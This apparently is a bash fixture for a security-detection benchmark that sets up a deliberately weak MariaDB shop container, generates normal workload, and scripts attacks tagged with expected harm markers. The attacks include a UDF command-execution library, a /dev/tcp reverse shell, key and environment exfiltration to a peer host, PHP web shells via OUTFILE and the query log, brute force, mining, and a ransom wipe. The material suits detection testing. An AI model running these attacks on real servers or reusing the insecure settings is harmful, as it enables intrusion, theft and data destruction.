# shellcheck shell=bash
# SPDX-License-Identifier: Apache-2.0
#
# mariadb as the database of a shop: InnoDB and MyISAM, a binary log, an event of its scheduler, reports
# that need temporary tables on disk, search. It becomes the user mysql itself. As in images that add
# plugins, their directory belongs to mysql; a web server shares /srv/www.

# shellcheck disable=SC2034,SC2154 # lib.bash and rare.bash read variables of this file, and set others
# shellcheck source=bench/dataset/databases.bash
. "${here:?}/databases.bash"

set=test containers=(mariadb) port=3306 data_directory=/var/lib/mysql volume_mb=400
configuration_file=/etc/mysql/my.cnf
health=(/usr/bin/mariadb -uroot -psecret -h 127.0.0.1 -Ne 'select 1')
image_packages=(mariadb-server-core mariadb-client-core bash coreutils findutils grep sed gzip dash base-files
	libc-bin tzdata hostname)
rare_own=(new_database settings_changed slow_query big_sort file_loaded table_repaired user_added deadlock
	session_ended general_log partitions dump_restored tables_locked variables_shown)
rare_not=(worker_killed)

image_prepare() {
	local tree=$1
	echo mysql:x:104:104::/nonexistent:/bin/false >>"$tree/etc/passwd"
	echo mysql:x:104: >>"$tree/etc/group"
	mkdir -p "$tree"/var/{lib,log}/mysql "$tree"/run/mysqld "$tree"/srv/www "$tree"/etc/mysql \
		"$tree"/etc/ssl/private "$tree"/usr/lib/mysql/plugin
	printf '%s\n' '-----BEGIN PRIVATE KEY-----' 'bm90IGEga2V5' >"$tree/etc/ssl/private/backup.key"
	echo '<html>shop</html>' >"$tree/srv/www/index.html"
	# shellcheck disable=SC2016 # PHP
	echo '<?php $key = "secret-of-the-pages";' >"$tree/srv/www/config.php"
	chmod 777 "$tree/srv/www"
	mariadb_settings >"$tree/etc/mysql/my.cnf"
	cat >"$tree/etc/mysql/init.sql" <<-'SQL'
	create database if not exists shop;
	create user if not exists root@'%' identified by 'secret';
	grant all on *.* to root@'%' with grant option;
	create user if not exists shop@'%' identified by 'secret';
	grant all on shop.* to shop@'%';
	SQL
	rm -f "$tree/dev/null" "$tree/dev/urandom"
	mknod -m 666 "$tree/dev/null" c 1 3
	mknod -m 444 "$tree/dev/urandom" c 1 9
	chown -R 104:104 "$tree"/var/{lib,log}/mysql "$tree"/run/mysqld "$tree"/usr/lib/mysql/plugin \
		"$tree/etc/ssl/private/backup.key"
	chmod 600 "$tree/etc/ssl/private/backup.key"
	chmod 711 "$tree/etc/ssl/private"
	chroot "$tree" /usr/bin/mariadb-install-db --user=mysql --skip-test-db --force \
		>"$tree/tmp/log" 2>&1 ||
		{ cat "$tree/tmp/log" >&2 && return 1; }
	rm -rf "$tree"/tmp/* "$tree"/dev/null "$tree"/dev/urandom "$tree"/var/log/mysql/*
}

mariadb_settings() {
	cat <<-'CNF'
	[mariadbd]
	user = mysql
	datadir = /var/lib/mysql
	socket = /run/mysqld/mysqld.sock
	pid-file = /run/mysqld/mysqld.pid
	init-file = /etc/mysql/init.sql
	bind-address = 0.0.0.0
	server-id = 1
	log-error = /var/log/mysql/error.log
	log-warnings = 2
	slow-query-log = on
	slow-query-log-file = /var/log/mysql/slow.log
	long-query-time = 0.1
	log-bin = /var/log/mysql/mariadb-bin
	max-binlog-size = 1M
	expire-logs-days = 3
	innodb-buffer-pool-size = 16M
	innodb-log-file-size = 8M
	innodb-buffer-pool-dump-at-shutdown = on
	key-buffer-size = 1M
	tmp-table-size = 64K
	max-heap-table-size = 64K
	sort-buffer-size = 64K
	max-connections = 60
	event-scheduler = on
	local-infile = on
	CNF
}

container_fields() {
	tmpfs=(/tmp)
	arguments=(/usr/sbin/mariadbd)
	environment+=(MARIADB_ROOT_PASSWORD=secret)
	volumes=(/var/lib/mysql /var/log/mysql /srv/www)
}

peers() {
	:
}

# as_user USER [OPTION…]: statements from stdin; answers without heads. Errors do not end it.
as_user() {
	local name=$1
	shift
	client_stdin mariadb -h "$own_address" -u "$name" -psecret -BN --force "$@"
}

# admin_sql SQL
admin_sql() {
	as_user root shop <<<"$1"
}

admin_tool() {
	local tool=$1
	shift
	client "$tool" -h "$own_address" -u root -psecret "$@"
}

# The shop's tables are made when the server answers for the first time.
ready() {
	admin_sql 'select 4711' | grep -qx 4711 || return
	[ -z "$shop_is_made" ] || return 0
	as_user root shop <<-'SQL' || return
	create table users (id int primary key auto_increment, name varchar(40) unique, password char(32),
		email varchar(80), at timestamp default now());
	create table orders (id int primary key auto_increment, user_id int, document json,
		total decimal(10, 2), at timestamp default now(), key (user_id),
		foreign key (user_id) references users (id));
	create table notes (id int primary key auto_increment, words mediumtext,
		fulltext (words)) engine=MyISAM;
	create table log (id int primary key auto_increment, text varchar(200)) engine=Aria;
	create view sales as select u.name, count(*) n, sum(o.total) s from users u join orders o
		on o.user_id = u.id group by 1;
	create trigger order_logged after insert on orders for each row insert into log (text)
		values (new.total);
	create function total_of(n int) returns decimal(10, 2) reads sql data return
		(select sum(total) from orders where user_id = n);
	create procedure clean_up() delete from log where id <
		(select m from (select max(id) - 300 m from log) t);
	create event clean_up on schedule every 7 second do call clean_up();
	insert into users (name, password, email) select concat('user', seq), md5(seq),
		concat('u', seq, '@example.org') from seq_1_to_500;
	insert into orders (user_id, document, total) select 1 + seq % 500, json_object('items', seq % 7), seq
		from seq_1_to_4000;
	SQL
	shop_is_made=1
}

shop_is_made=''

# order_work N: a customer's visit.
order_work() {
	local i u
	for ((i = 0; i < $1; i++)); do
		u=$((RANDOM % 500 + 1))
		echo "select id, name from users where name = 'user$u'; start transaction;"
		echo "insert into orders (user_id, document, total)
			values ($u, '{\"items\": $((RANDOM % 9)), \"gift\": true}', $RANDOM);"
		echo "update users set at = now() where id = $u; $(likely 80 && echo commit || echo rollback);"
		echo "select json_value(document, '\$.items'), total from orders where user_id = $u
			order by at desc limit 5;"
		likely 70 || echo "delete from orders where user_id = $u order by at limit 1;"
	done
}

text_work() {
	local i
	for ((i = 0; i < $1; i++)); do
		echo "insert into notes (words) values (concat('cats run to house $RANDOM', repeat(' word',
			$((RANDOM % 2000)))));"
	done
	echo "select id, match (words) against ('cats house') from notes
		where match (words) against ('cats house') limit 10;"
	echo "update notes set words = concat(words, 'x') where id % 9 = 0;
		delete from notes order by id limit $1;"
}

report_work() {
	echo "select * from sales order by s desc limit 10; select count(*) from log;"
	echo "select o.document, u.email, count(*) from orders o join users u
		on u.id = o.user_id group by 1, 2 order by 3, 2 limit $1;"
	echo "select user_id, total, rank() over (partition by user_id order by total) r from orders
		order by r desc limit $1;"
	echo "explain extended select * from orders o join users u on u.id = o.user_id where total > $RANDOM;"
	echo "create temporary table t as select * from orders; alter table t add key (total);
		select max(total) from t; drop table t;"
}

other_work() {
	echo "prepare p from 'select name from users where id = ?'; set @a = $1; execute p using @a;
		deallocate prepare p;"
	echo "select * from nowhere; select total_of($1), version(), now(), database(); call clean_up();
		show warnings;"
	echo "lock tables notes write; insert into notes (words) values ('locked'); unlock tables;
		select sleep(0.2);"
	echo "show processlist; show global status like 'Threads%'; show table status;
		select get_lock('a', 1), release_lock('a');"
	echo "truncate log; insert into users (name) values ('user$1') on duplicate key update email = '';
		handler users open; handler users read first;"
}

# A file of the client's becomes a table.
loaded_work() {
	echo "create temporary table t (a text); load data local infile '/etc/services' into table t;"
	echo 'select max(a) from t;'
	echo "select table_name, data_length from information_schema.tables;"
}

# wrong_login PASSWORD
wrong_login() {
	client mariadb -h "$own_address" -u shop "-p$1" -e 'select 1' shop
}

# slap STATEMENTS REQUESTS CLIENTS
slap() {
	client mariadb-slap -h "$own_address" -u shop -psecret --create-schema=shop --query="$1" \
		--number-of-queries="$2" --concurrency="$3" --delimiter=';' --no-drop
}

request() {
	local number=$RANDOM n=$((RANDOM % 30 + 3))
	case $((RANDOM % 12)) in
	0 | 1 | 2 | 3) generated "$number" order_work "$n" | as_user shop shop ;;
	4) generated "$number" text_work "$n" | as_user shop shop ;;
	5) generated "$number" report_work "$n" | as_user shop shop ;;
	6 | 7) generated "$number" other_work "$n" | as_user shop shop ;;
	8) slap "select * from users where id = $n; select count(*) from orders where user_id = $n" \
		$((n * 6)) $((number % 5 + 1)) ;;
	9) slap "insert into log (text) values ('$n'); select max(id) from log" $((n * 2)) $((number % 3 + 1)) ;;
	10) loaded_work | as_user shop shop ;;
	11) wrong_login wrong ;;
	esac >/dev/null
}

reload_service() {
	container_signal mariadb HUP
}

administer() {
	local logs
	logs=$(volume_path mariadb /var/log/mysql)
	mv "$logs/slow.log" "$logs/slow.log.1"
	mv "$logs/error.log" "$logs/error.log.1"
	admin_sql 'flush local error logs; flush local slow logs'
	admin_sql 'analyze table orders; optimize table notes; check table users, log; flush binary logs'
	admin_sql 'purge binary logs before now(); flush privileges; show engine innodb status;
		show binary logs'
	admin_tool mariadb-dump --single-transaction --routines --events shop | wc -c
	reload_service
}

rare_new_database() {
	admin_sql "create database other; create table other.t (a int, b text) select 1 a, 'x' b;
		create sequence other.s; rename table other.t to other.u; alter table other.u engine=MyISAM;
		drop database other"
}

rare_settings_changed() {
	admin_sql 'set global innodb_buffer_pool_size = 33554432; set global max_connections = 80;
		set global query_cache_type = on'
	sleep 5
	admin_sql 'set global innodb_buffer_pool_size = 16777216; set global innodb_buffer_pool_dump_now = on;
		set global max_connections = default; set global query_cache_type = default'
}

rare_slow_query() {
	admin_sql 'set statement max_statement_time = 6 for select count(*) from orders a, orders b
		where a.total < sqrt(b.total)'
}

rare_big_sort() {
	admin_sql 'create table big as select a.document d, b.email e from orders a, users b limit 200000;
		select * from big order by e, d limit 3; alter table big add key (e); drop table big'
}

# A file that the administrator has put there.
rare_file_loaded() {
	keep_file mariadb /tmp/numbers
	seq 2000 >"$(image_path mariadb /tmp/numbers)"
	admin_sql "create table numbers (n int); load data infile '/tmp/numbers' into table numbers;
		drop table numbers"
}

rare_table_repaired() {
	truncate -s 100 "$(image_path mariadb /var/lib/mysql/shop/notes.MYI)"
	admin_sql 'flush tables; check table notes; repair table notes use_frm; select count(*) from notes'
}

rare_user_added() {
	admin_sql "create user guest@'%' identified by 'secret'; grant select on shop.* to guest@'%';
		create role readers"
	as_user guest shop <<<'select count(*) from users'
	admin_sql "drop user guest@'%'; drop role readers"
}

rare_deadlock() {
	admin_sql 'begin; update users set email = 1 where id = 1; do sleep(2);
		update users set email = 1 where id = 2; commit' &
	admin_sql 'begin; update users set email = 1 where id = 2; do sleep(2);
		update users set email = 1 where id = 1; commit'
	wait $! || true
}

rare_session_ended() {
	admin_sql 'select sleep(20)' &
	sleep 1
	admin_sql "delimiter //
		begin not atomic declare i int; select id into i from information_schema.processlist
		where info like 'select sleep(20)%' limit 1; execute immediate concat('kill ', i); end //"
	wait $! || true
}

rare_general_log() {
	admin_sql "set global general_log_file = '/var/log/mysql/general.log'; set global general_log = on"
	sleep 5
	admin_sql 'set global general_log = off'
}

rare_partitions() {
	admin_sql 'create table parts (n int) partition by hash (n) partitions 6;
		insert into parts select * from seq_1_to_100;
		alter table parts coalesce partition 2; drop table parts'
}

rare_dump_restored() {
	admin_tool mariadb-dump shop notes users >"$stage/dump.sql"
	# shellcheck disable=SC2016 # names in the quotes of SQL
	sed -i 's/`users`/`users2`/; s/`notes`/`notes2`/' "$stage/dump.sql"
	as_user root shop <"$stage/dump.sql"
	admin_sql 'drop table if exists users2, notes2'
}

rare_tables_locked() {
	admin_sql 'flush tables with read lock; do sleep(4); unlock tables; flush tables users for export;
		unlock tables'
}

rare_variables_shown() {
	admin_sql 'show variables; show status; show engines; show plugins; show master status;
		show slave status' | tail -n 2
	admin_tool mariadb-admin extended-status | tail -n 2
}

# ---- attacks: an application takes SQL from its users, as root ----

# udf_install: a library comes in through a query, and a function of it is made.
udf_install() {
	local hex
	hex=$(as_hex "$(payload_library)")
	harm open /usr/lib/mysql/plugin/payload.so
	harm mapx /usr/lib/mysql/plugin/payload.so
	admin_sql "select 0x$hex into dumpfile '/usr/lib/mysql/plugin/payload.so';
		create function run_command returns integer soname 'payload.so'"
}

attack_udf() {
	udf_install
	harm exec '*/dash'
	admin_sql "select run_command('id >/tmp/out; cat /etc/passwd >>/tmp/out')"
	session mariadb /bin/grep uid=104 /tmp/out
}

attack_miner() {
	udf_install
	mining_begin /tmp/.mysqld
	admin_sql "select run_command(\"$mining_command\")"
	pool_got
}

attack_reverse_shell() {
	udf_install
	harm exec '*/bash'
	harm connect "$peer_address:4444"
	thief_shell 'id; ls -la; cat /etc/ssl/private/backup.key; exit'
	admin_sql "select run_command('bash -c \"exec bash -i >&/dev/tcp/$peer_address/4444 0>&1\"')"
	thief_got uid=104
}

attack_credentials() {
	udf_install
	harm open /etc/ssl/private/backup.key
	harm open '/proc/*/environ'
	thief_begin
	harm connect "$peer_address:4444"
	admin_sql "select run_command('cat /etc/ssl/private/backup.key /proc/self/environ >/tmp/.stolen')"
	admin_sql "select run_command('bash -c \"cat /tmp/.stolen >/dev/tcp/$peer_address/4444\"')"
	thief_got 'PRIVATE KEY'
}

# A web shell for the server that shares the directory.
attack_outfile() {
	harm open /srv/www/shell.php
	# shellcheck disable=SC2016 # PHP
	admin_sql "select '<?php system(\$_GET[0]); ?>' into outfile '/srv/www/shell.php'"
	grep -q 'php system' "$(volume_path mariadb /srv/www)/shell.php"
}

# The same by the log of queries.
attack_log_file() {
	harm open /srv/www/log.php
	admin_sql "set global general_log_file = '/srv/www/log.php'; set global general_log = on;
		select '<?php system(\$_GET[0]); ?>';
		set global general_log = off; set global general_log_file = '/var/log/mysql/general.log'"
	grep -q 'php system' "$(volume_path mariadb /srv/www)/log.php"
}

# Files that all may read: others are refused by the server.
attack_load_file() {
	harm open /srv/www/config.php
	harm open /etc/passwd
	harm open /etc/mysql/init.sql
	admin_sql "select load_file('/etc/passwd'), load_file('/srv/www/config.php'),
		load_file('/etc/mysql/init.sql')" |
		tee "$stage/answer" | grep secret-of-the-pages
}

attack_brute_force() {
	local i
	harm call accept4
	for i in {1..80} secret; do
		client mariadb -h "$own_address" -u root "-p$i" -BNe 'select 4711'
	done | grep -x 4711
}

attack_code_shell() {
	harm exec '*/dash'
	inject mariadb mariadbd 'print (int) system("id >/tmp/out; cat /etc/ssl/private/backup.key >>/tmp/out")'
	session mariadb /bin/grep uid=104 /tmp/out
}

attack_code_machine() {
	harm call mprotect
	code_machine mariadb mariadbd | tee "$stage/answer" | grep '= 42'
}

# ---- adaptive: by statements, files and peers of every day ----

# The whole, as its administrators dump it.
adaptive_dump() {
	harm call sendto
	[ "$(admin_tool mariadb-dump --single-transaction shop | wc -c)" -gt 100000 ]
}

# Every row of every table, by select.
adaptive_read_all() {
	local table
	harm call sendto
	for table in users orders log notes mysql.global_priv; do
		admin_sql "select * from $table"
	done | wc -c >"$stage/answer"
	[ "$(cat "$stage/answer")" -gt 100000 ]
}

adaptive_tamper() {
	harm call pwrite64
	admin_sql "update users set password = md5('mine'); update orders set total = 0"
	[ "$(admin_sql "select count(*) from users where password <> md5('mine')")" = 0 ]
}

# All rows are gone, and a note says what to pay.
adaptive_ransom() {
	harm call pwrite64
	admin_sql "delete from orders; delete from users; truncate log; delete from notes;
		insert into notes (words) values ('Pay, and get your data back')"
	[ "$(admin_sql 'select count(*) from users')" = 0 ]
}
